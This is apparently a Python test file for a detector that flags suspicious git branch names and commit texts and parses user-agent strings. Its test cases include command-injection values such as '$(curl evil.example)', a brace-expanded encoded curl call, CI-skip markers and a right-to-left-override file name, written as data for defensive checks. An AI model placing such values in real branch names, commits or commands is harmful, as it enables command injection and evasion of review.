"""Texts are reduced to what can be learned from them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.clients import client_of
from collector.shapes import host_of, name_oddities_of, oddities_of, shape_of, version_shape_of


@given(st.text())
def test_shape_of_a_shape_is_itself(text: str) -> None:
    """What is masked once has nothing left that varies."""
    assert shape_of(shape_of(text)) == shape_of(text)


def test_texts_of_one_template_have_one_shape() -> None:
    """Messages that differ in numbers, hashes and times alone are one shape."""
    a = shape_of("Merge 3f2a9c1d into main at 2026-03-01T10:00:00Z (#12)")
    assert a == shape_of("Merge 9b1c2d3e4f into main at 2026-04-02T11:22:33Z (#99812)")


@pytest.mark.parametrize(
    ("name", "odd"),
    [
        ("feature/pay", []),
        ("dependabot/npm_and_yarn/@acme/pay-1.2.3", []),
        ("a$(curl evil.example)", ["a program to run", "command substitution"]),
        ("a;b", ["shell characters"]),
        ("gh-readonly-queue/main/pr-12-" + "0f" * 20, []),
        (
            "x-$({curl,-sSfL,x.example/" + "bSry9" * 8 + "})",
            ["a program to run", "command substitution", "brace expansion", "encoded run"],
        ),
        ("release/a-${debug}", ["variable"]),
        ("x" * 100, ["very long"]),
    ],
)
def test_names_written_to_hurt(name: str, odd: list[str]) -> None:
    """A name is odd for shell characters, encoded runs and length."""
    assert name_oddities_of(name) == odd


_WORDS = r"""$( ` ${IFS} {a,b} curl ; | bash && {{ %41%41%41%41 \x41\x41\x41 \u0041\u0041\u0041 [skip ***NO_CI***
    Skip-Checks: true ci] ' " < > \ fix a/b.c = + _""".split()
_LONG = ["aB3" * 12, "aB3" * 16, "a" * 40, "x" * 81, " ", "\n", "\x1b", "\u200b", "\u00e9"]
_PARTS = st.lists(st.sampled_from(_WORDS + _LONG) | st.text(max_size=3), max_size=8).map("".join)


@given(_PARTS)
def test_ordinary_is_what_no_oddity_is_found_in(text: str) -> None:
    """The quick look never passes over what the search would find."""
    with_mark = text + "\u00b7"  # no ordinary character, and part of no oddity: the text is searched
    assert oddities_of(text, 200) == oddities_of(with_mark, 201)
    assert name_oddities_of(text) in (
        name_oddities_of(with_mark),
        [o for o in name_oddities_of(with_mark) if "long" not in o],
    )


@pytest.mark.parametrize(
    ("text", "odd"),
    [
        ("Fix rounding & taxes; see #12", []),
        ("use `git rebase` & retry", []),
        ("try $(curl x.example)", ["a program to run"]),
        ("| node | python |\n(python 3.11) sha256 " + "ab" * 32 + " OK", []),
        ("ship it [skip ci]", ["skips CI"]),
        ("admin\u202egpj.exe", ["invisible characters"]),
    ],
)
def test_texts_written_to_hurt(text: str, odd: list[str]) -> None:
    """A text is odd for what would run, hide or keep checks away; ordinary punctuation is not odd."""
    assert oddities_of(text, 5000) == odd


@pytest.mark.parametrize(
    ("agent", "client"),
    [
        ("git/2.50.0.windows.1", ("git on Windows", "2.50")),
        ("python-requests/2.28.1", ("python-requests", "2.28")),
        ("Boto3/1.35 botocore/1.35", ("Boto3", "1.35")),
        ("[Boto3/1.28.40 Python/3.10]", ("Boto3", "1.28")),
        ("AWS Internal", ("AWS", "")),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/143.0.0.0 Safari/537.36",
            ("Chrome on Windows", "143.0"),
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X) AppleWebKit/605.1.15 Version/18.2 Safari/605.1.15",
            ("Safari on macOS", "18.2"),
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/143.0 Safari/537.36 Edg/143.0",
            ("Edge on Linux", "143.0"),
        ),
        ("", ("", "")),
    ],
)
def test_clients(agent: str, client: tuple[str, str]) -> None:
    """A client is its family; a browser's family names its system; versions count to their second number."""
    assert client_of(agent) == client


@given(st.text())
def test_any_text_is_a_client_a_host_and_a_version(text: str) -> None:
    """Whatever a vendor sends is reduced without an error."""
    assert isinstance(client_of(text)[0] + host_of(text) + version_shape_of(text), str)
